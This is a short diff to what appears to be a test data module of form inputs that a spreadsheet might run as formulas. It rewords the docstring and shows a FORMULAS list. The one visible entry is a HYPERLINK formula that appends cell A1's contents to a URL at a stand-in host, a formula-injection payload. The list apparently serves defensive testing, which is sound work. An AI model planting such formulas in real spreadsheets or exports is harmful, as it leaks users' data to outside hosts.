@@ -1,4 +1,4 @@
-"""Texts that people type into a form to see what a spreadsheet makes of them."""
+"""Texts of forms that a spreadsheet might run as formulas, and harmless ones."""
 
 FORMULAS = [
     '=HYPERLINK("http://bad.example.org?"&A1,"Click")',
